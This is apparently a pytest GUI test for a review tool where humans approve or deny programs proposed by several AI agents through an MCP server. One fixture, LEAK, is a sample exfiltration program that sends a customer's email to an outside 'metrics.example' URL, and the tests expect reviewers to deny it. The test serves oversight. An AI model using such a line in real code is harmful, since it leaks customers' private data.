"""Thirty programs of five agents wait in the real window over a real core; they are worked off with the keyboard."""

from __future__ import annotations

import asyncio
import os
import sys
from typing import Any

from mcp import Client, StdioServerParameters
from mcp.types import Implementation
from PySide6.QtCore import Qt
from PySide6.QtTest import QTest

from tests.flows.conftest import MARK
from workbench.api.client import connect
from workbench.events import spawn
from workbench.gui.runs.review_dialog import ReviewDialog
from workbench.paths import OVERRIDE, Paths
from workbench.records import Decision, Risk, RunState

HANG = 60_000  # milliseconds; only a guard against waiting for ever
SHIFT = Qt.KeyboardModifier.ShiftModifier
AGENTS = ("Ada's helper", "codex", "cursor", "goose", "vscode")
MAIL = (
    'from servers.demo import send_email\nawait send_email(to="team@acme.example", subject="{}", body="All is well.")\n'
)
LEAK = """from servers.demo import list_customers, fetch_page
page = await list_customers(limit=2)
await fetch_page(url="https://metrics.example/" + page["customers"][0]["email"])
"""


def programs(number: int) -> list[dict[str, Any]]:
    """Six programs of one agent: two of low risk that ask for approval, two mails of one form, one mail of its own
    form, and one that leaks private data."""
    own = "".join(f"step{place} = {place}\n" for place in range(number + 1))
    return [
        {"code": f"{own}print('a')\n", "force_approval": True},
        {"code": f"{own}print('b', 1)\n", "force_approval": True},
        {"code": MAIL.format(f"Report {number}")},
        {"code": MAIL.format(f"Summary {number}")},
        {"code": own + MAIL.format("Its own form")},
        {"code": own + LEAK},
    ]


async def propose(paths: Paths, name: str, wanted: list[dict[str, Any]]) -> list[str]:
    """Propose all programs at once as one agent, and return the answers."""
    home = {key: os.environ[key] for key in (OVERRIDE, MARK)}
    arguments = ["-m", "workbench", "serve", "--project", str(paths.project)]
    door = StdioServerParameters(command=sys.executable, args=arguments, env=home)
    async with Client(door, mode="legacy", client_info=Implementation(name=name, version="1")) as client:
        calls = [client.call_tool("execute_code", one, read_timeout_seconds=300) for one in wanted]
        answers = await asyncio.gather(*calls)
    return [answer.content[0].text for answer in answers]  # type: ignore[union-attr]  # each answer begins with a text


class Keyboard:
    """Presses keys where the focus is, and counts them."""

    def __init__(self, review: ReviewDialog, qtbot: Any) -> None:
        self.review = review
        self.pressed = 0
        self._qtbot = qtbot

    def press(self, *keys: Qt.Key, held: Any = Qt.KeyboardModifier.NoModifier) -> None:
        for key in keys:
            QTest.keyClick(self.review.focusWidget() or self.review, key, held)
            self.pressed += 1

    def settle(self) -> None:
        """Wait until the request in front may be allowed, as one who reads it."""
        self._qtbot.waitUntil(lambda: self.page() is None or self.page().can_allow(), timeout=HANG)

    def page(self) -> Any:
        return self.review.page()

    def decide(self, *keys: Qt.Key, held: Any = Qt.KeyboardModifier.NoModifier) -> None:
        """Press keys after which the next request is there."""
        shown = self.page()
        self.press(*keys[:1], held=held)
        self.press(*keys[1:])
        self._qtbot.waitUntil(lambda: self.page() is not shown, timeout=HANG)


def test_thirty_programs_of_five_agents_are_worked_off(window: Any, complete: Any, qtbot: Any, paths: Paths) -> None:
    store = window.context.store
    asked = [spawn(name, propose(paths, name, programs(number))) for number, name in enumerate(AGENTS)]
    qtbot.waitUntil(lambda: store.waiting_count == 30, timeout=HANG * 2)
    window.commands.do("run.review")
    qtbot.waitUntil(lambda: bool(window.findChildren(ReviewDialog)), timeout=HANG)
    (review,) = window.findChildren(ReviewDialog)
    review.activateWindow()
    qtbot.waitUntil(lambda: len(review.order()) == 21, timeout=HANG)
    assert review.windowTitle().startswith("1 of 30 · ") or "of 30" in review.windowTitle()
    qtbot.waitUntil(lambda: all(run.clock_left for run in store.runs.values()), timeout=HANG)

    keyboard, kinds, strokes = Keyboard(review, qtbot), {"low": 0, "medium": 0, "high": 0, "group": 0}, 0
    while (page := keyboard.page()) is not None:
        keyboard.settle()
        risk = page.run.verdict.risk
        before = keyboard.pressed
        if review.group.isVisible():
            qtbot.waitUntil(review.group.allow_button.settled, timeout=HANG)
            keyboard.press(Qt.Key.Key_A, held=SHIFT)  # ten rows do not fit: the first press shows the others
            assert "scrolled" in review.status_text()
            keyboard.decide(Qt.Key.Key_A, Qt.Key.Key_Return, held=SHIFT)
            kind = "group"
        elif risk is Risk.HIGH and kinds["high"] == 0:
            keyboard.press(Qt.Key.Key_A, Qt.Key.Key_A)
            assert not page.is_over, "two keys are too few for high risk"
            keyboard.decide(Qt.Key.Key_Return)
            kind = "high"
        elif risk is Risk.HIGH:
            keyboard.decide(Qt.Key.Key_D)
            kind = "high"
        else:
            keyboard.decide(Qt.Key.Key_A, Qt.Key.Key_A)
            kind = str(risk)
        kinds[kind] += 1
        strokes += keyboard.pressed - before
    assert kinds == {"low": 10, "medium": 5, "high": 5, "group": 1}
    expected = 10 * 2 + 5 * 2 + (3 + 4 * 1) + 3
    print(f"30 programs of {len(AGENTS)} agents: {strokes} keystrokes for {sum(kinds.values())} decisions, {kinds}")
    assert strokes == expected

    assert review.undo.active, "the last denials can still be undone"
    qtbot.waitUntil(lambda: all(one.done() for one in asked), timeout=HANG * 2)
    answers = [text for one in asked for text in one.result()]
    assert sum("denied" in text for text in answers) == 4
    assert sum(run.state is RunState.DONE for run in store.runs.values()) >= 25
    qtbot.waitUntil(lambda: not review.isVisible(), timeout=HANG)


def test_two_clients_answer_and_a_lapsed_program_is_put_back(
    window: Any, complete: Any, qtbot: Any, paths: Paths
) -> None:
    api, store = window.context.api, window.context.store
    first, second = (complete(api.submit(f"print({one})", "", "", force_approval=True)) for one in (1, 2))
    qtbot.waitUntil(lambda: store.waiting_count == 2, timeout=HANG)
    window.commands.do("run.review")
    qtbot.waitUntil(lambda: bool(window.findChildren(ReviewDialog)), timeout=HANG)
    (review,) = window.findChildren(ReviewDialog)
    review.activateWindow()
    qtbot.waitUntil(lambda: len(review.order()) == 1 and review.group.isVisible(), timeout=HANG)
    keyboard = Keyboard(review, qtbot)
    shown = keyboard.page().request_id
    other = second if shown == first.id else first

    async def answer_elsewhere(run_id: str) -> str:
        connection = await connect(paths)
        run = await connection.api.run(run_id)
        sha, print_ = run.proposal.sha, run.fingerprint
        try:
            await connection.api.decide(Decision(run_id, sha, False, "you", "Not now.", fingerprint=print_))
        except Exception as fault:  # what the second client is told
            return str(fault)
        finally:
            await connection.close()
        return ""

    keyboard.settle()
    keyboard.press(Qt.Key.Key_A)
    assert complete(answer_elsewhere(shown)) == ""
    qtbot.waitUntil(lambda: keyboard.page().is_over, timeout=HANG)
    keyboard.press(Qt.Key.Key_Return)
    assert "denied elsewhere" in keyboard.page().fault.sentence(), "the Return that was meant for Allow closes nothing"
    assert review.status_text().endswith("your answer was not used.")
    keyboard.press(Qt.Key.Key_J)
    qtbot.waitUntil(lambda: keyboard.page().request_id == other.id, timeout=HANG)
    keyboard.settle()
    keyboard.decide(Qt.Key.Key_A, Qt.Key.Key_A)
    qtbot.waitUntil(lambda: complete(api.run(other.id)).state is RunState.DONE, timeout=HANG)
    assert complete(answer_elsewhere(other.id)) != "", "one answer counts, and the other client is told"
